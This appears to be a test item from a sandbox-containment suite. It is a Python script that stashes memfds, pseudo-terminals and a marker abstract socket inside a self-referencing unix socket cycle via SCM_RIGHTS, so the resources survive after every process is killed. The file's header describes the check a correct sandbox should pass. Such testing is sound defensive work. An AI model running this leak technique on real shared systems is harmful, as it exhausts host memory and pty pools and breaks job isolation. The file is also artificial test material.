# ATTACK 111 scm_rights_stash
# KIND: containment
# ATTEMPTS: make resources outlive the job without any process: file descriptors sent over a unix
#           socket and never received stay alive in the kernel. Two sockets that hold each other
#           (and the stash) in their receive queues form a cycle no process owns, so killing every
#           process frees nothing: 6 memfds of 60 MiB (360 MiB of the job's memory), up to 200
#           pseudo-terminals (a host-wide pool of about 3000) and a listening abstract socket
#           @verigen_stash (a name the next job can test for).
# CORRECT SANDBOX MUST: after a job, nothing of it remains: its memory, ptys and sockets are
#           released (or the sandbox is replaced), so the next job gets its full memory limit.
# HARNESS CHECK: host side: the host's pty count is back to its value before the run; the next
#           job in the same sandbox can allocate 300 MiB, bind @verigen_stash, and sees no unix
#           socket beyond the supervisor's.
import os
import socket

stash = []
chunk = b"\x5a" * (1 << 20)
for i in range(6):
    try:
        fd = os.memfd_create(f"verigen_stash_{i}")
        for _ in range(60):
            os.write(fd, chunk)
        stash.append(fd)
    except OSError as e:
        print(f"ATTACK_INFO: memfd {i} -> {e!r}", flush=True)
        break
ptys = 0
for _ in range(200):
    try:
        stash.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
        ptys += 1
    except OSError:
        break
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    listener.bind("\0verigen_stash")
    listener.listen()
    stash.append(listener.fileno())
except OSError as e:
    print(f"ATTACK_INFO: bind -> {e!r}", flush=True)
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
sent = 0
for i in range(0, len(stash), 200):
    socket.send_fds(a, [b"stash"], stash[i : i + 200])
    sent += len(stash[i : i + 200])
socket.send_fds(a, [b"cycle"], [a.fileno(), b.fileno()])
socket.send_fds(b, [b"cycle"], [a.fileno(), b.fileno()])
print(f"ATTACK_INFO: stashed {sent} fds ({ptys} ptys) in a unix socket cycle", flush=True)
print("ATTACK_RESULT: see harness (nothing may outlive the job)", flush=True)
os._exit(0)
